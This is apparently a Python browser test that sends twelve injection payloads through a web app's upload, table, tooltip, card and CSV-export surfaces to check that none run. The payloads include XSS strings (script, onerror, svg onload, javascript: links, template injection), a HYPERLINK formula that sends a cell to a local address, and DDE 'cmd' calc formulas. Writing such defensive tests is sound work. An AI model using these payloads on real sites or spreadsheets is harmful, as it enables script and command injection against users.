"""No cell's content ever runs or renders as markup: twelve payloads through every surface that shows text."""

import csv
import io

from analysis.core.text.formulas import NUMBER, unguarded
from tests.browser.data.test_bring import DROP, give_back, segment, wait_for_form
from tests.dashboard.asking import ask

PAYLOADS = (
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=2>",
    "<svg/onload=window.ran=3>",
    '"><iframe srcdoc="<script>parent.ran=4</script>">',
    "<a href=javascript:window.ran=5>click</a>",
    "javascript:window.ran=6",
    "{{constructor.constructor('window.ran=7')()}}",
    "</script><script>window.ran=8</script>",
    "<b onmouseover=window.ran=9>bold</b>",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"win")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
)
HOSTILE = """
const RUNS = /^on|^srcdoc/i;
const LINKS = /^(href|src|action|xlink:href)$/i;
const own = [...document.querySelectorAll('.kindred *, .tip, .tip *')];
return own.filter((n) => ['SCRIPT', 'IFRAME', 'IMG', 'OBJECT', 'EMBED'].includes(n.tagName)
  || [...n.attributes].some((a) => RUNS.test(a.name) || (LINKS.test(a.name) && /^\\s*javascript:/i.test(a.value))))
  .map((n) => n.outerHTML.slice(0, 200))
"""


def hostile_file():
    """Payloads as headers, ids, categories and unreadable numbers of 72 customers."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["customer id", f"Plan {PAYLOADS[0]}", f"Age {PAYLOADS[1]}", f"Income {PAYLOADS[8]}", PAYLOADS[2]])
    for i in range(72):
        payload = PAYLOADS[i % 12]
        age = payload if i in {7, 20} else 20 + i * 7 % 31
        writer.writerow([f"{payload} {i}", PAYLOADS[i % 6], age, 30 + i * i % 47, PAYLOADS[(i + 5) % 12]])
    return out.getvalue()


def nothing_ran(page, where):
    assert page.run("return window.ran") is None, where
    assert page.run(HOSTILE) == [], where


def test_payloads_stay_text_on_every_surface(visitor):
    visitor.open()
    visitor.run("sessionStorage.clear()")
    visitor.open("/data")
    visitor.until(lambda: visitor.text(".drop"), "files are taken")
    visitor.run_async(DROP, f"{PAYLOADS[1]}.csv", hostile_file())
    wait_for_form(visitor)
    visitor.run("document.querySelectorAll('.bring details').forEach((d) => { d.open = true; })")
    nothing_ran(visitor, "form")
    assert PAYLOADS[0] in visitor.text(".columns")
    segment(visitor)
    nothing_ran(visitor, "explore")
    for point in ((0.2, 0.2), (0.4, 0.5), (0.6, 0.6), (0.8, 0.4)):
        visitor.mouse("mouseMoved", visitor.at("pair", point))
        nothing_ran(visitor, "tooltip of a mark")
    visitor.until(lambda: any(PAYLOADS[0] in " ".join(row) for row in visitor.rows()), "the table shows them")
    nothing_ran(visitor, "table")
    visitor.click("category", (0.1, 0.3))
    visitor.until(visitor.chips, "a category is a chip")
    nothing_ran(visitor, "chip and sentence")
    visitor.click_on("nav a[data-page='/segments']")
    visitor.until(lambda: visitor.text("#sheet"), "the sheet is filled")
    nothing_ran(visitor, "segments")
    visitor.click_on("nav a[data-page='/data']")
    visitor.until(lambda: "Only those who have this link" in visitor.text(".bring"), "it says who sees it")
    assert PAYLOADS[7] in visitor.text("#cleaned"), "the report names what was unreadable"
    nothing_ran(visitor, "report")
    base = "/".join(visitor.address().split("/")[:4])
    check_files(visitor, base)
    give_back(visitor)


def check_files(page, base):
    """Check that the export has every value, guarded, and so has the report."""
    given = list(csv.reader(io.StringIO(hostile_file())))
    rows = list(csv.reader(io.StringIO(ask(page.base, f"{base}/export.csv").text.removeprefix("\ufeff"))))
    assert [[unguarded(v) for v in row[:5]] for row in rows] == given
    report = list(csv.reader(io.StringIO(ask(page.base, f"{base}/report.csv").text.removeprefix("\ufeff"))))
    for value in (value for row in [*rows, *report] for value in row):
        assert not value.lstrip().startswith(("=", "+", "-", "@")) or NUMBER.match(value), value


def test_a_name_is_text_or_refused(visitor):
    visitor.open()
    for payload in PAYLOADS:
        visitor.run_async(
            "const {started} = await import([...document.scripts].find((s) => s.src.endsWith('page/main.js')).src);"
            "const e = await started; const one = e.page.solutions[e.state.k].segments[0];"
            "one.name = args[0]; e.names.dispatchEvent(new Event('change'));",
            payload,
        )
        visitor.until(lambda name=payload: name in visitor.text("#cards"), "the card shows the name")
        nothing_ran(visitor, f"cards with {payload}")
